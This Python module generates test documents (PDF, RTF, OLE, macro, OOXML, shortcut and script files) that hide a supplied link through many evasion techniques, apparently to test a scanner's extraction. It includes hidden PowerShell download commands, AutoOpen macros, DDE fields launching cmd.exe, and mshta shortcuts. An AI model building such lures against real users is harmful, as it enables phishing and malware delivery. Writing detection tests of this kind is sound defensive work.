"""Documents, containers and macros that hide a link or a file, made octet by octet."""
import base64
import io
import struct
import zipfile
import zlib

from wrap import by_libarchive, cab, docx, zip_of
from wrap_doc import Storage, ole_file, onenote, pdf, rtf_with_object


# --- PDF ---

def lzw(data):
    """PDF's LZW: 9 to 12 bits, highest first, a clear code in front (ISO 32000-1, 7.4.4)."""
    out, held, bits, width = bytearray(), 0, 0, 9
    table = {bytes([n]): n for n in range(256)}
    following = 258

    def put(code):
        nonlocal held, bits
        held, bits = held << width | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append(held >> bits & 255)
            held &= (1 << bits) - 1

    put(256)
    word = b''
    for number in data:
        longer = word + bytes([number])
        if longer in table:
            word = longer
            continue
        put(table[word])
        table[longer] = following
        following += 1
        if following >= 1 << width and width < 12:
            width += 1
        if following == 4094:
            put(256)
            table, following, width = {bytes([n]): n for n in range(256)}, 258, 9
        word = bytes([number])
    if word:
        put(table[word])
    following += 1
    if following >= 1 << width and width < 12:
        width += 1
    put(257)
    if bits:
        out.append(held << (8 - bits) & 255)
    return bytes(out)


def run_lengths(data):
    pieces = [data[at:at + 100] for at in range(0, len(data), 100)]
    return b''.join(bytes([len(piece) - 1]) + piece for piece in pieces) + b'\x80'


def predicted(data, columns=20):
    """PNG's Up predictor in front of each row."""
    rows = [data[at:at + columns].ljust(columns, b' ') for at in range(0, len(data), columns)]
    out, above = b'', bytes(columns)
    for row in rows:
        out += b'\2' + bytes((a - b) & 255 for a, b in zip(row, above))
        above = row
    return out


def pdfs(link):
    """(title, file) of PDFs with this link."""
    action = b'<</Type/Annot/A<</S/URI/URI(' + link + b')>>>>'
    octal = b''.join(b'\\%03o' % c for c in link)
    wide = b'\xfe\xff' + link.decode().encode('utf-16be')
    hidden = action.replace(link, octal)
    squeezed = zlib.compress(action)

    def stream(words, coded):
        return pdf((b'/Type/Catalog', None), (words, coded))

    yield 'escaped key and link', pdf((b'/S/U#52I/#55#52I(' + octal + b')', None))
    yield 'line continuation', pdf((b'/S/URI/URI(' + link[:9] + b'\\\r\n' + link[9:] + b')', None))
    yield 'UTF-16 string', pdf((b'/S/URI/URI(' + wide.replace(b'\\', b'\\\\') + b')', None))
    yield 'UTF-16 in octal', pdf((b'/S/URI/URI(' + b''.join(b'\\%03o' % c for c in wide) + b')', None))
    yield 'UTF-16 in hexadecimal', pdf((b'/S/URI/U#52I <' + wide.hex().encode() + b'>', None))
    yield 'hexadecimal with blanks', pdf((b'/S/URI/URI\n< ' + link.hex(' ').encode() + b' >', None))
    yield 'form that is sent', pdf((b'/S/SubmitForm/F<</FS/URL/F(' + octal + b')>>', None))
    yield 'other document', pdf((b'/S/GoToR/F(' + octal + b')', None))
    yield 'launched program', pdf((b'/S/Launch/Win<</F(cmd.exe)/P(/c start ' + octal + b')>>', None))
    yield 'script', pdf((b'/S/JavaScript/JS(' + (b'x' * 3000) + b'app.launchURL\\(\'' + octal + b'\'\\))', None))
    yield 'LZW', stream(b'/Filter/LZWDecode', lzw(action * 40))
    yield 'LZW under its short name', stream(b'/Filter/LZW', lzw(action))
    yield 'run lengths', stream(b'/Filter/RunLengthDecode', run_lengths(b'x' * 300 + hidden))
    yield 'ASCII85', stream(b'/Filter/ASCII85Decode', base64.a85encode(action) + b'~>')
    yield 'hexadecimal stream', stream(b'/Filter/ASCIIHexDecode', action.hex().encode() + b'>')
    yield 'chain of four', stream(b'/Filter[/AHx/A85/LZW/Fl]', (
        base64.a85encode(lzw(squeezed)) + b'~>').hex().encode() + b'>')
    yield 'chain of nine', stream(b'/Filter[' + b'/AHx' * 8 + b'/Fl]', hexadecimal(squeezed, 8))
    yield 'predictor', stream(b'/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 20>>',
                              zlib.compress(predicted(hidden)))
    yield 'filter elsewhere', pdf((b'/Type/ObjStm/Filter 2 0 R', squeezed)) + b'2 0 obj /FlateDecode endobj\n'
    yield 'filter behind a comment', stream(b'/Filter/FlateDecode%' + b'x' * 5000 + b'\n', squeezed)
    yield 'end of the stream in its middle', stream(
        b'/Filter/FlateDecode', zlib_two(b'\nendstream endobj\n', hidden))
    yield 'blank behind the word', stream(b'/Filter/FlateDecode', squeezed).replace(b'stream\n', b'stream \r\n', 1)
    yield 'drawn in pieces', stream(b'/Filter/FlateDecode', zlib.compress(
        b'BT /F1 12 Tf [(' + link[:3] + b') -20 (' + link[3:14] + b')3(' + link[14:] + b')] TJ ET'))
    yield 'XFA', stream(b'/Type/XFA/Filter/FlateDecode', zlib.compress(
        b'<xdp:xdp><submit target="' + link.replace(b'h', b'&#x68;', 1) + b'"/></xdp:xdp>'))
    yield 'junk in front', b'x' * 1000 + pdf((b'/S/URI/URI(' + octal + b')', None))


def zlib_two(first, second):
    """Two blocks in one zlib stream: what the first, stored one holds looks like the end of it."""
    squeeze_rest = zlib.compressobj(wbits=-15)
    return b'\x78\x01' + b'\0' + struct.pack('<HH', len(first), 0xffff ^ len(first)) + first + \
        squeeze_rest.compress(second) + squeeze_rest.flush() + struct.pack('>I', zlib.adler32(first + second))


def hexadecimal(data, times):
    for _ in range(times):
        data = data.hex().encode() + b'>'
    return data


# --- RTF ---

def rtfs(link):
    quoted = b''.join(b"\\'%02x" % c for c in link)
    unicode = b''.join(b'\\u%d?' % c for c in link)
    split = link[:9] + b'}{\\b ' + link[9:20] + b'}\\i0{' + link[20:]
    for title, text in (('quoted', quoted), ('unicode', unicode), ('split', split),
                        ('lines', link[:9] + b'\r\n' + link[9:])):
        yield f'field, {title}', b'{\\rtf1{\\field{\\*\\fldinst {HYPERLINK "' + text + b'"}}{\\fldrslt x}}}'
        yield f'template, {title}', b'{\\rtf1{\\*\\template {' + text + b'}}hello}'
    yield 'blanks in front', b'\r\n {\\rtf1{\\*\\template ' + quoted + b'}hello}'


def pictures(data):
    """(title, name, file) with a picture as old forms keep it."""
    def record(instance, kind, sums):
        return struct.pack('<HHI', instance << 4, kind, 16 * sums + 1 + len(data)) + bytes(16 * sums) + b'\xff' + data
    head = b'\xf0\xf0' + bytes(40)
    for title, name, stream, content in (('PNG', 'a.ppt', 'Pictures', record(0x6e0, 0xf01e, 1)),
                                         ('PNG with two sums', 'a.doc', 'Data', record(0x6e1, 0xf01e, 2)),
                                         ('JPEG', 'a.doc', 'Data', record(0x46a, 0xf01d, 1))):
        yield f'picture, {title} in {name}', name, ole_file(Storage({
            stream: head + b'\x1e\xf0' + content + b'\xf0'}))
    drawing = record(0x6e2, 0xf01d, 1)
    yield 'picture, JPEG in CMYK in pieces in a.xls', 'a.xls', ole_file(Storage({'Workbook': b''.join(
        struct.pack('<HH', kind, len(piece)) + piece for kind, piece in (
            (0x809, bytes(16)), (0xeb, drawing[:90]), (0x3c, drawing[90:190]), (0xeb, drawing[190:]), (10, b'')))}))
    digits = data.hex().encode()
    yield 'picture, PNG in RTF', 'a.rtf', b'{\\rtf1{\\pict{\\*\\blipuid 0123456789abcdef}\\picw9\\pngblip\r\n' + \
        b'\r\n'.join(digits[n:n + 64] for n in range(0, len(digits), 64)) + b'}}'
    yield 'picture, JPEG in RTF as it is', 'a.rtf', b'{\\rtf1{\\pict\\jpegblip\\bin%d ' % len(data) + data + b'}}'


def rtf_objects(name, data):
    """(title, file) with an object that Word reads and a plain reader of digits does not."""
    plain = rtf_with_object(name, data)
    at = plain.index(b'objdata ') + 8
    end = plain.index(b'}', at)
    digits = plain[at:end]

    def made(inside):
        return plain[:at] + inside + plain[end:]

    yield 'blanks', made(b'\t \r\n'.join(digits[n:n + 1] for n in range(len(digits))))
    yield 'quoted octets', made(digits[:10] + b"\\'41\\'42" + digits[10:])
    yield 'octets as they are', made(digits[:40] + b'\\bin%d ' % (len(digits) // 2 - 20) + bytes.fromhex(
        digits[40:].decode()))
    yield 'ignored groups', made(digits[:10] + b'{\\*\\junk abcdef01}' + digits[10:])
    yield 'number of the word', plain.replace(b'objdata ', b'objdata7 ')
    yield 'nested groups', made(digits[:10] + b'{{' + digits[10:20] + b'}}' + digits[20:])


# --- OLE, macros ---

def squeeze(source):
    """MS-OVBA 2.4.1: chunks of literal octets and copies of what came before."""
    out = b'\1'
    for at in range(0, len(source), 4096):
        piece, body, where = source[at:at + 4096], b'', 0
        while where < len(piece):
            flags, tokens = 0, b''
            for bit in range(8):
                if where >= len(piece):
                    break
                width = max(4, (where - 1).bit_length()) if where > 1 else 4
                best, best_length = 0, 0
                for back in range(1, min(where, 1 << width) + 1):
                    length = 0
                    while length < 18 and where + length < len(piece) and \
                            piece[where - back + length] == piece[where + length]:
                        length += 1
                    if length > best_length:
                        best, best_length = back, length
                if best_length >= 3:
                    flags |= 1 << bit
                    tokens += struct.pack('<H', (best - 1) << (16 - width) | (best_length - 3))
                    where += best_length
                else:
                    tokens += piece[where:where + 1]
                    where += 1
            body += bytes([flags]) + tokens
        if len(body) >= 4096:
            out += struct.pack('<H', 0x3fff) + piece.ljust(4096, b'\0')
        else:
            out += struct.pack('<H', 0xb000 | (len(body) - 1)) + body
    return out


def module(source):
    """A module's stream: what Office compiled, and the source behind it."""
    text = b'Attribute VB_Name = "Module1"\r\n' + source
    return bytes(range(256)) * 2 + squeeze(text)


def macro_project(source):
    return Storage({'VBA': Storage({'dir': squeeze(b'\1\0\4\0\0\0\1\0\0\0' + bytes(60)), '_VBA_PROJECT': bytes(40),
                                    'Module1': module(source)})})


def basic(link):
    return b'Sub AutoOpen()\r\nDim s As String\r\ns = "x"\r\nh = "http" & "x"\r\nt = "' + link + b'"\r\nEnd Sub\r\n'


def squeezed_rtf(text):
    """MS-OXRTFCP 2.1.3: all octets as they are, in runs of eight, and the end."""
    body, at = b'', 0
    pieces = [text[n:n + 8] for n in range(0, len(text), 8)]
    for piece in pieces:
        if len(piece) == 8:
            body += b'\0' + piece
            at += 8
    rest = text[at:]
    end = (207 + len(text)) & 4095
    body += bytes([1 << len(rest)]) + rest + struct.pack('>H', end << 4)
    return struct.pack('<III', len(body) + 12, len(text), 0x75465a4c) + struct.pack('<I', zlib.crc32(body)) + body


def outlook_rtf(link):
    rtf = b'{\\rtf1\\ansi\\fromhtml1{\\*\\htmltag64 <a href="' + link[:12] + b"\\'%02x" % link[12] + link[13:] + \
        b'">}x}'
    return ole_file(Storage({'__properties_version1.0': bytes(32), '__substg1.0_10090102': squeezed_rtf(rtf)}))


def slides(inner):
    """A presentation whose objects are squeezed (MS-PPT 2.10.34)."""
    squeezed = struct.pack('<I', len(inner)) + zlib.compress(inner)
    atom = struct.pack('<HHI', 0x10, 0x1011, len(squeezed)) + squeezed
    return ole_file(Storage({'Current User': bytes(60), 'PowerPoint Document':
                             struct.pack('<HHI', 0xf, 1000, len(atom)) + atom + bytes(8)}))


def scattered(stream, other):
    """An OLE file whose small stream lies in its sectors back to front."""
    octets = bytearray(ole_file(Storage({'WordDocument': stream.ljust(4000, b' '), 'Data': other})))
    root = struct.unpack_from('<I', octets, 48)[0]
    directory = 512 * (root + 1)
    small_at = 512 * (struct.unpack_from('<I', octets, directory + 116)[0] + 1)
    count = 4000 // 64 + 1
    sectors = [bytes(octets[small_at + 64 * n:small_at + 64 * (n + 1)]) for n in range(count)]
    octets[small_at:small_at + 64 * count] = b''.join(reversed(sectors))
    table_at = 512 * (struct.unpack_from('<I', octets, 60)[0] + 1)
    for number in range(count):
        struct.pack_into('<I', octets, table_at + 4 * number, number - 1 if number else 0xfffffffe)
    struct.pack_into('<I', octets, directory + 128 + 116, count - 1)
    return bytes(octets)


def ole_links(link):
    text = link.decode()
    wide = text.encode('utf-16le')
    yield 'hyperlink', 'a.xls', ole_file(Storage({'Workbook': bytes(64) + bytes.fromhex(
        'e0c9ea79f9bace118c8200aa004ba90b') + struct.pack('<I', len(wide)) + wide}))
    yield 'counted string', 'a.xls', ole_file(Storage({'Workbook': bytes(64) + b'\x17Ah' + link[1:] + bytes(9)}))
    yield 'counted wide string', 'a.xls', ole_file(Storage({'Workbook': bytes(64) + b'A\0' + wide + bytes(9)}))
    yield 'scattered sectors', 'a.doc', scattered(b'x' * 45 + b'HYPERLINK "' + link + b'"', b'y')
    yield 'macro', 'a.doc', ole_file(Storage({'WordDocument': bytes(600), 'Macros': macro_project(basic(link))}))
    yield 'macro of a presentation', 'a.ppt', slides(ole_file(macro_project(basic(link))))
    yield 'macro in docm', 'a.docm', docx([('word/vbaProject.bin', ole_file(macro_project(basic(link))))])
    yield 'squeezed text of a message', 'a.msg', outlook_rtf(link)


# --- OOXML, ODF and relatives ---

def active_mime(inner):
    """What Word calls editdata.mso."""
    return b'ActiveMime\0\0\1\xf0' + struct.pack('<I', 4) + b'\xff\xff\xff\xff\0\0\7\xf0' + struct.pack(
        '<IIIII', 4, 4, 0, len(inner), 0) + zlib.compress(inner)


def odf(files=()):
    return zip_of([('mimetype', 'application/vnd.oasis.opendocument.text'), *files])


def relation(link, kind):
    return (f'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{link}" TargetMode="External"/></Relationships>')


def xml_links(link):
    text = link.decode()
    for kind, where in (('attachedTemplate', 'word/_rels/settings.xml.rels'),
                        ('frame', 'word/_rels/webSettings.xml.rels'),
                        ('oleObject', 'word/_rels/document.xml.rels'),
                        ('subDocument', 'word/_rels/document.xml.rels'),
                        ('externalLinkPath', 'xl/externalLinks/_rels/externalLink1.xml.rels')):
        yield kind, 'a.docx', docx([(where, relation(text, kind))])
    spelt = text.replace('t', '&#116;', 1)
    yield 'entities in UTF-16', 'a.docx', docx([('word/_rels/document.xml.rels', ('\ufeff' + relation(
        spelt, 'frame')).encode('utf-16le'))])
    yield 'entities behind blanks', 'a.docx', docx([('word/_rels/document.xml.rels', ' ' * 90 + relation(
        spelt, 'frame'))])
    yield 'entities in a large part', 'a.docx', docx([('word/_rels/document.xml.rels', relation(
        spelt, 'frame').replace('><', '><!--' + ' '.join(map(str, range(200000))) + '--><', 1))])
    yield 'field over runs', 'a.docx', docx([('word/document.xml', '<w:document><w:r><w:instrText>DDEAUTO c:\\\\x "'
                                             f'{text[:9]}</w:instrText></w:r><w:r><w:rPr/><w:instrText xml:space='
                                             f'"preserve">{text[9:]}"</w:instrText></w:r></w:document>')])
    yield 'data of its own', 'a.docx', docx([('customXml/item1.xml', f'<a b="{spelt}"/>')])
    yield 'OpenDocument', 'a.odt', odf([('content.xml', f'<text:a xlink:href="{spelt}"/>')])
    macro = ole_file(macro_project(basic(link)))
    yield 'ActiveMime', 'editdata.mso', active_mime(macro)
    mht = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="=_b"\r\n\r\n--=_b\r\nContent-Location: '
           b'file:///C:/a.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n' +
           base64.encodebytes(active_mime(macro)) + b'\r\n--=_b--\r\n')
    yield 'web archive', 'a.doc', mht
    yield 'web archive behind a PDF', 'a.doc', pdf((b'/Type/Catalog', None)) + b'\r\n' + mht
    yield 'Word 2003 XML', 'a.xml', b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument>' \
        b'<w:docSuppData><w:binData w:name="editdata.mso">' + base64.encodebytes(active_mime(macro)) + \
        b'</w:binData></w:docSuppData></w:wordDocument>'
    yield 'flat OPC', 'a.xml', b'<?xml version="1.0"?><pkg:package><pkg:part pkg:name="/word/vbaProject.bin">' \
        b'<pkg:binaryData>' + base64.encodebytes(macro) + b'</pkg:binaryData></pkg:part></pkg:package>'


# --- files that are not documents ---

def shortcut(arguments):
    """A Windows link (MS-SHLLINK): header, then counted wide strings."""
    head = struct.pack('<I', 0x4c) + bytes.fromhex('0114020000000000c000000000000046') + struct.pack('<I', 0xa0)
    text = arguments.encode('utf-16le')
    return head.ljust(76, b'\0') + struct.pack('<H', len(arguments)) + text + bytes(4)


def pieces(link):
    """Strings that a program or a formula puts together."""
    text = link.decode()
    yield 'script in pieces', 'a.js', f"var u='{text[:3]}' + '{text[3:15]}'+\n\t'{text[15:]}';open(u);".encode()
    yield 'script in small pieces', 'a.js', ('u=' + '+'.join(f'"{c}"' for c in text)).encode()
    yield 'VBScript in pieces', 'a.vbs', f'x = "{text[:2]}" & "{text[2:9]}" & _\r\n "{text[9:]}"\r\n'.encode()
    yield 'PowerShell in pieces', 'a.ps1', f"iwr ('{text[:4]}'+\"{text[4:8]}\"+'{text[8:]}')".encode()
    yield 'formula in pieces', 'a.xlsx', docx([('xl/worksheets/sheet1.xml', '<worksheet><c r="A1"><f>HYPERLINK('
                                                f'"{text[:6]}"&amp;"{text[6:]}","x")</f></c></worksheet>')])
    yield 'macro in pieces', 'a.doc', ole_file(Storage({'Macros': macro_project(
        f'a = "{text[:5]}" & _\r\n "{text[5:]}"\r\n'.encode())}))
    yield 'script of a PDF in pieces', 'a.pdf', pdf((b'/S/JavaScript/JS(app.launchURL\\("' + link[:7] + b'"+"' +
                                                     link[7:] + b'"\\))', None))


def commands_in_base64(link):
    """What PowerShell takes as -EncodedCommand, and a script in a script."""
    coded = base64.b64encode(('iwr ' + link.decode() + ' -OutFile c:\\x.exe').encode('utf-16le'))
    yield 'command', 'a.ps1', b'powershell -enc ' + coded
    yield 'command in a link file', 'a.lnk', shortcut('/c powershell -e ' + coded.decode())
    yield 'command in a macro', 'a.doc', ole_file(Storage({'Macros': macro_project(
        b'Shell "powershell -w hidden -enc ' + coded + b'"\r\n')}))
    yield 'script in a script', 'a.js', b'eval(atob("' + base64.b64encode(
        b'location.href="' + link + b'";' + b'/' * 40) + b'"))'


def shares(host):
    path = f'\\\\{host}@SSL\\DavWWWRoot\\a.dotm'
    yield 'share in a relation', 'a.docx', docx([('word/_rels/settings.xml.rels', relation(path, 'attachedTemplate'))])
    yield 'file in a relation', 'a.docx', docx([('word/_rels/settings.xml.rels', relation(
        f'file://{host}/x/a.dotm', 'attachedTemplate'))])
    yield 'share in a link file', 'a.lnk', shortcut(path)
    yield 'share in a document', 'a.doc', ole_file(Storage({'WordDocument': b'\x13INCLUDEPICTURE ' + path.encode()}))
    yield 'share in a PDF', 'a.pdf', pdf((b'/S/GoToE/F(' + path.replace('\\', '\\\\').encode() + b')', None))
    yield 'share in a theme', 'a.theme', f'[Theme]\r\nBrandImage={path}\r\n'.encode()


def commands():
    """Fields that start a program without any macro (DDE)."""
    field = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    yield 'field in docx', 'a.docx', docx([('word/document.xml', f'<w:fldSimple w:instr=\'{field}\'/>')])
    yield 'field in docx over runs', 'a.docx', docx([('word/document.xml', '<w:r><w:instrText>DDE'
                                                          f'</w:instrText></w:r><w:r><w:instrText>{field[3:]}'
                                                          '</w:instrText></w:r>')])
    yield 'link of a sheet', 'a.xlsx', docx([('xl/externalLinks/externalLink1.xml',
                                              '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>')])
    yield 'field in RTF', 'a.rtf', b'{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO ' + field[8:].encode() + b'}}}}'
    yield 'field in doc', 'a.doc', ole_file(Storage({'WordDocument': b'x' * 600 + b'\x13 ' + field.encode() + b'\x15'}))


def plain_links(link):
    text = link.decode()
    yield 'link file', 'a.lnk', shortcut(f'/c mshta {text}')
    yield 'remote desktop', 'a.rdp', f'full address:s:{text.split("/")[2]}:3389\r\n'.encode('utf-16')
    yield 'link file, counted', 'a.lnk', shortcut(f'{text}'.ljust(0x41))
    yield 'query file', 'a.iqy', b'WEB\r\n1\r\n' + link + b'\r\n'
    yield 'table', 'a.slk', b'ID;P\r\nC;X1;Y1;K0;ECALL("urlmon","' + link + b'")\r\nE\r\n'
    yield 'search connector', 'a.search-ms', f'<?xml version="1.0"?><x><url>{text.replace("h", "&#104;", 1)}</url></x>'
    yield 'long', 'a.iqy', b'WEB\r\n1\r\n' + link + b'&x=' + b'y' * 4000 + b'\r\n'
    yield 'settings of Windows', 'a.settingcontent-ms', f'<a><DeepLink>mshta.exe {text}</DeepLink></a>'.encode()
    yield 'script', 'a.js', b'var a=new ActiveXObject("MSXML2.XMLHTTP");a.open("GET","' + link + b'");'
    yield 'OneNote', 'a.one', onenote(b'x') + text.encode('utf-16le')
    yield 'cabinet', 'a.cab', cab('a.url', b'[InternetShortcut]\r\nURL=' + link)
    installer = ole_file(Storage({'\u4840\u3f3f': bytes(500), '!_StringData': b'x' * 77 + link + b'y'}))
    yield 'installer', 'a.msi', installer
    for form in ('iso9660', '7zip'):
        image = by_libarchive('a.lnk', shortcut(f'/c {text}'), form)
        if image:
            yield form, 'a.img', image


# --- what nothing here opens, which must be said ---

def closed():
    """(title, name, file, why it cannot be looked into)"""
    sealed = io.BytesIO()
    with zipfile.ZipFile(sealed, 'w') as archive:
        archive.writestr('a.txt', b'hello')
    hidden = bytearray(sealed.getvalue())
    at = hidden.index(b'PK\1\2')
    hidden[at:at + 60] = b'\xaa' * 60
    hidden[6] |= 1
    hidden[7] |= 0x20
    yield 'zip with a closed directory', 'a.zip', bytes(hidden), 'encrypted'
    yield 'OpenDocument with a password', 'a.odt', odf([(
        'META-INF/manifest.xml', '<manifest:manifest><manifest:file-entry><manifest:encryption-data/>'
        '</manifest:file-entry></manifest:manifest>'), ('content.xml', bytes(range(256)))]), 'encrypted'
    yield 'PDF with a password', 'a.pdf', pdf((b'/Type/Catalog', None)) + b'trailer<</#45ncrypt 3 0 R>>', 'encrypted'
    yield 'raw CD', 'a.bin', (b'\0' + b'\xff' * 10 + b'\0' + bytes(2340)) * 20, 'archive-form'
    yield 'VMDK', 'a.vmdk', b'KDMV\1\0\0\0' + bytes(600), 'archive-form'
    yield 'qcow', 'a.qcow2', b'QFI\xfb\0\0\0\3' + bytes(600), 'archive-form'
    yield 'VDI', 'a.vdi', b'<<< Oracle VM VirtualBox Disk Image >>>\n'.ljust(64, b'\0') + struct.pack(
        '<I', 0xbeda107f) + bytes(500), 'archive-form'
    yield 'VHDX', 'a.vhdx', b'vhdxfile' + bytes(600), 'archive-form'
    yield 'WIM', 'a.wim', b'MSWIM\0\0\0' + bytes(300), 'archive-form'
    yield 'pipable WIM', 'a.wim', b'WLPWM\0\0\0' + bytes(300), 'archive-form'
    yield 'squashfs', 'a.img', b'hsqs' + bytes(600), 'archive-form'
    yield 'disk with partitions', 'a.img', bytes(446) + b'\x80\1\1\0\7\xfe\xff\xff' + struct.pack(
        '<II', 63, 20000) + bytes(48) + b'\x55\xaa' + bytes(2048), 'archive-form'
    yield 'encoded script', 'a.vbe', b'#@~^EAAAAA==\\ko$K6~JtnV^GJmwUAAA==^#~@', 'archive-form'
    yield 'encoded script in a page', 'a.hta', b'<html><script language="JScript.Encode">#@~^EAAAAA==\\ko$K6~J' \
        b'tnV^GJmwUAAA==^#~@</script></html>', 'archive-form'
    yield 'OneNote of another form', 'a.one', bytes.fromhex('e4525c7b8cd8a74daeb15378d02996d3') + bytes(32) + \
        bytes.fromhex('3fdd9a101b91f549a5d01791edc8aed8')[::-1] + bytes(900), 'archive-form'
    yield 'help file', 'a.chm', b'ITSF\3\0\0\0' + bytes(200), 'archive-form'
